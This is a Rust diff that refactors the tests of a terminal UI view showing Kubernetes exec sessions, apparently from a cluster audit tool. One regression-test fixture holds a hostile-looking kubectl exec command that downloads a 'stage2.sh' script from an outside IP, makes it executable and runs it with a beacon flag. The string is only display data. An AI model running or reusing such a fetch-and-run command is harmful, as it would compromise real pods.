@@ -386,17 +386,30 @@ mod tests {
     }
 
     fn view() -> SessionView {
+        view_of(sessions())
+    }
+
+    fn view_of(sessions: Vec<ActorSession>) -> SessionView {
         let shared = Shared::default();
         let mut v = SessionView::loading(
             Identity::Account("system:serviceaccount:shop:web".into()),
             None,
         );
-        v.on_sessions(sessions(), &shared.ctx());
+        v.on_sessions(sessions, &shared.ctx());
         v
     }
 
     fn drawn(v: &SessionView, ctx: &Ctx<'_>, size: (u16, u16)) -> String {
         crate::tui::components::testing::drawn(v, ctx, size)
+    }
+
+    /// The main area of a `width` × `height` screen (its header and hints taken away) with
+    /// the cursor on the session's exec.
+    fn on_the_exec(mut v: SessionView, width: u16, height: u16) -> String {
+        let shared = Shared::sized(width, height);
+        let ctx = shared.ctx();
+        v.select(3, &ctx);
+        drawn(&v, &ctx, (width, height - 3))
     }
 
     #[test]
@@ -428,15 +441,7 @@ mod tests {
 
     #[test]
     fn sessions_at_80x24_snapshot() {
-        let shared = Shared {
-            size: (80, 24),
-            ..Shared::default()
-        };
-        let ctx = shared.ctx();
-        let mut v = view();
-        v.select(3, &ctx);
-        // The main area of an 80×24 screen.
-        let s = drawn(&v, &ctx, (80, 21));
+        let s = on_the_exec(view(), 80, 24);
         assert!(!s.contains('\x1b'), "a log string reached the terminal raw");
         assert!(s.contains("session 1"), "{s}");
         assert!(s.contains("from 198.51.100.77"), "{s}");
@@ -459,10 +464,7 @@ mod tests {
 
     #[test]
     fn regression_sessions_opened_on_a_late_command_scrolled_the_list_half_empty() {
-        let shared = Shared {
-            size: (80, 24),
-            ..Shared::default()
-        };
+        let shared = Shared::sized(80, 24);
         let ctx = shared.ctx();
         let mut long = sessions();
         long[0].commands = (0..40)
@@ -499,20 +501,9 @@ mod tests {
 
     #[test]
     fn regression_a_long_exec_command_was_pushed_out_of_the_pane_at_80x24() {
-        let shared = Shared {
-            size: (80, 24),
-            ..Shared::default()
-        };
-        let ctx = shared.ctx();
         let mut long = sessions();
         long[0].commands[1].command = "kubectl exec -n shop web-0 -- sh -c 'curl -s http://203.0.113.9/stage2.sh -o /tmp/s && chmod +x /tmp/s && /tmp/s --beacon END-OF-IT'".into();
-        let mut v = SessionView::loading(
-            Identity::Account("system:serviceaccount:shop:web".into()),
-            None,
-        );
-        v.on_sessions(long, &ctx);
-        v.select(3, &ctx);
-        let s = drawn(&v, &ctx, (80, 21));
+        let s = on_the_exec(view_of(long), 80, 24);
         assert!(
             s.contains("END-OF-IT"),
             "the command's end is in the pane: {s}"
@@ -521,20 +512,9 @@ mod tests {
 
     #[test]
     fn a_tall_screen_gives_the_pane_room_for_the_request_as_curl() {
-        let shared = Shared {
-            size: (80, 60),
-            ..Shared::default()
-        };
-        let ctx = shared.ctx();
-        let mut v = view();
-        v.select(3, &ctx);
-        let s = drawn(&v, &ctx, (80, 57));
+        let s = on_the_exec(view(), 80, 60);
         assert!(s.contains("curl -X GET"), "{s}");
-        let short = Shared {
-            size: (80, 24),
-            ..Shared::default()
-        };
-        assert!(!drawn(&v, &short.ctx(), (80, 21)).contains("curl -X GET"));
+        assert!(!on_the_exec(view(), 80, 24).contains("curl -X GET"));
     }
 
     #[test]
